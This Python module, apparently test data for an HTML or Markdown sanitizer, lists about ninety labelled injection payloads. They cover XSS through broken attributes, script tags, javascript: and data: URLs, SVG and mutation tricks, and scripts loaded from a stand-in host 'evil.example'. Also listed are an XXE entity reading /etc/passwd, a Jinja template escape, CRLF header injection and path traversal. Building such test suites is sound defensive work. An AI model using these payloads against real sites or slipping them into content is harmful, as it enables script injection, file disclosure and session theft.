"""What somebody might write to get markup or code of their own into a page, by what it tries.

Each would end the place that it stands in, or be taken for more than text there. An address that
would be asked for is that of `EVIL`.
"""

from __future__ import annotations

EVIL = "evil.example"
RUN = "alert(1)"

PAYLOADS: dict[str, str] = {
    # ends an attribute, or a tag
    "ends an attribute": f'"><img src=x onerror={RUN}>',
    "ends an attribute in single quotes": f"'><svg onload={RUN}>",
    "adds a handler": f'" onmouseover="{RUN}" x="',
    "adds a handler in single quotes": f"' autofocus onfocus='{RUN}' x='",
    "adds a handler without quotes": f"x onclick={RUN} y",
    "adds a handler in backticks": f"`onmouseover={RUN}`",
    "adds a handler behind a slash": f'"/onpointerover={RUN}/x="',
    "ends a tag with an entity": f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;",
    "ends a tag with an entity twice": f"&amp;quot;&amp;gt;&amp;lt;script&amp;gt;{RUN}",
    # scripts
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": f"<script src=//{EVIL}/x.js></script>",
    "a script in odd letters": f"<ScRiPt\t>{RUN}</sCrIpT\n>",
    "a script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script with a NUL": f"<scr\0ipt>{RUN}</script>",
    "ends a script": f"</script><script>{RUN}</script>",
    "a comment that swallows a script's end": f"<!--<script>{RUN}",
    "an end of a comment": f"--><script>{RUN}</script><!--",
    "an odd end of a comment": f"--!><img src=x onerror={RUN}>",
    "line ends of JavaScript": f"\u2028{RUN}\u2029//",
    "ends a string of JavaScript": f"\\';{RUN}//\\\";{RUN}//",
    # addresses
    "javascript:": f"javascript:{RUN}",
    "javascript: in odd letters": f"JaVaScRiPt:{RUN}",
    "javascript: with a tab": f"java\tscript:{RUN}",
    "javascript: with a line end": f"java\nscript:{RUN}",
    "javascript: with entities": f"&#106;avascript&colon;{RUN}",
    "javascript: with long entities": f"&#x0000006A;avascript&Tab;:{RUN}",
    "javascript: behind a control character": f"\x01javascript:{RUN}",
    "javascript: encoded": f"javascript%3A{RUN}",
    "javascript: that looks like the Web": f"javascript://{EVIL}/%0A{RUN}",
    "data: HTML": f"data:text/html,<script>{RUN}</script>",
    "data: HTML in Base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data: SVG": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "vbscript:": 'vbscript:msgbox("1")',
    "an address of this page": f"blob:https://{EVIL}/1",
    "an address of a file of this page": f"FileSystem:https://{EVIL}/x.html",
    "the source of a page": f"view-source:javascript:{RUN}",
    "data: with a line end": f"d\nata:text/html,<script>{RUN}</script>",
    "another host": f"//{EVIL}/x.png",
    "another host with backslashes": f"\\\\{EVIL}\\x",
    # elements of HTML
    "an image with a handler": f"<img src=x onerror={RUN}>",
    "an image with several sources": f"<img srcset='javascript:{RUN} 1x, x 2x' src=x>",
    "a frame": f"<iframe src=javascript:{RUN}></iframe>",
    "a frame with a document": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "an object": f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    "a form": f"<form action=javascript:{RUN}><button formaction=javascript:{RUN}>x</button>",
    "a refresh": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "a base": f"<base href=//{EVIL}/>",
    "a link": f"<a href=javascript:{RUN} ping=//{EVIL}/>x</a>",
    "a style sheet": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "an import": f"<style>@import '//{EVIL}/x.css';</style>",
    "a style": f'<div style="background:url(javascript:{RUN});width:expression({RUN})">x</div>',
    "a style with escapes": f'<div style="background:u\\72l(//{EVIL}/x)">x</div>',
    "an animation": "<style>@keyframes x{}</style>"
    f"<b style=animation-name:x onanimationend={RUN}>",
    "details that open": f"<details open ontoggle={RUN}>x</details>",
    "a player": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "an unknown element": f"<x tabindex=1 onfocus={RUN} autofocus>x</x>",
    "the end of the body": f"</article></main></body></html><body onload={RUN}>",
    # SVG and MathML
    "SVG": f"<svg/onload={RUN}>",
    "SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "SVG with a link": f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "SVG with an animation": f"<svg><a><animate attributeName=href values=javascript:{RUN} /></a>",
    "SVG with HTML in it": f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe>",
    "SVG that uses another": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/>",
    "MathML with a link": f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x',
    # what is read otherwise the second time
    "mutation: noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation: mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation: style in SVG": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation: a template": f"<template><s>000</s><img src=x onerror={RUN}></template>",
    "mutation: select": "<select><template><style><!--</style>"
    f"<a rel='--></style><img src onerror={RUN}>'>",
    "mutation: a title": f"<svg><title><a id='</title><img src=x onerror={RUN}>'></title></svg>",
    "mutation: text areas": f"<textarea><a title='</textarea><img src=x onerror={RUN}>'>",
    "mutation: xmp": f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    "mutation: frames": f"<iframe><a title='</iframe><img src=x onerror={RUN}>'></iframe>",
    "mutation: annotation": '<math><annotation-xml encoding="text/html"><style>'
    f"<img src=x onerror={RUN}></style></annotation-xml></math>",
    # data and other languages
    "ends CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "an entity of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "a processing instruction": f'<?xml-stylesheet href="javascript:{RUN}"?><?php {RUN} ?>',
    "characters that XML does not have": "\x08\x0b\x1f\ufffe\uffff",
    "a template of Jinja": "{{ 7*7 }}{% set x = 1 %}{# x #}{{ site().head|safe }}",
    "a template's way out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a template of JavaScript": f"${{{RUN}}}`#{{{RUN}}}",
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "an id of the page": "g-main",
    "a clobbered name": "<img id=documentElement><a id=g-main><form id=attributes name=cookie>",
    "a line of a header": f"x\r\nSet-Cookie: a=b\r\n\r\n<script>{RUN}</script>",
    "a hole": "\ufdd00\ufdd1 onclick=x \ufdd21\ufdd3",
    "a way up": "../../../etc/passwd",
    "text from right to left": "\u202egnp.exe\u2066",
    # Markdown
    "Markdown's link": f"[x](javascript:{RUN} 'x')![x](javascript:{RUN})<javascript:{RUN}>",
    "Markdown's entity": f"[x](&#106;avascript:{RUN})[y](jAva&Tab;script:{RUN})",
    "ends a wikilink": f"]]<img src=x onerror={RUN}>[[",
    "ends a formula": f"$<img src=x onerror={RUN}>$\\href{{javascript:{RUN}}}{{x}}",
    "ends code": f"`<img src=x onerror={RUN}>\n```\n<script>{RUN}</script>\n```",
    "ends a callout": f"]\n\n<img src=x onerror={RUN}>\n\n> [!x",
    "ends a comment of Obsidian": f"%%<img src=x onerror={RUN}>%%<!-- --><script>{RUN}</script>",
    "a table of Markdown": f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
}
